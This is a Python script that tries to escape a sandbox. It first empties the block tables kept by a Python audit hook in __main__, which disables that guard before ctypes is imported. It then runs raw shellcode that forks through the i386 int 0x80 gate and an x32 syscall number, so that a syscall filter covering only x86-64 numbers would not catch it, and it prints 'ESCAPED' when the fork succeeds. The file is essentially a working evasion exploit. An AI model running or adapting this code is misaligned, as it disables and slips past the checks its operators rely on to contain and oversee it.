"""ctypes: fork through machine code: the 32-bit int 0x80 gate and an x32 syscall number, which
a filter written for x86-64 numbers alone would not match. x86-64 only.

Each attempt runs in its own thread, in case the kernel kills just the thread.
"""

import mmap
import os
import sys
import threading

_guard = vars(sys.modules["__main__"])
if "_BLOCKED" in _guard:  # a Python audit hook keeps its tables there: empty them first
    _guard["_BLOCKED"], _guard["_ROOT"] = (), ""

# ctypes is audited on import (ctypes.dlopen): import it once the guard is gone.
import ctypes  # noqa: E402

CODES = {
    "int 0x80 fork (i386 nr 2)": bytes.fromhex("b802000000cd80c3"),  # mov eax,2; int 0x80; ret
    "x32 fork (0x40000039)": bytes.fromhex("b8390000400f05c3"),  # mov eax,nr; syscall; ret
}
wins = []


def attempt(label, code):
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    print(f"{label}: calling", flush=True)
    pid = ctypes.CFUNCTYPE(ctypes.c_int)(address)()
    if pid == 0:
        os._exit(7)
    if pid < 0:
        print(f"{label}: returned {pid} ({os.strerror(-pid)})")
        return
    status = os.waitpid(pid, 0)[1]
    if os.WIFEXITED(status) and os.WEXITSTATUS(status) == 7:
        wins.append(f"{label} -> child {pid}")


if os.uname().machine != "x86_64":
    print("not x86-64: nothing to try")
else:
    for label, code in CODES.items():
        worker = threading.Thread(target=attempt, args=(label, code), daemon=True)
        worker.start()
        worker.join(0.5)
        if worker.is_alive():
            print(f"{label}: the thread never came back")
if wins:
    print("ESCAPED: forked through another syscall ABI: " + "; ".join(wins))
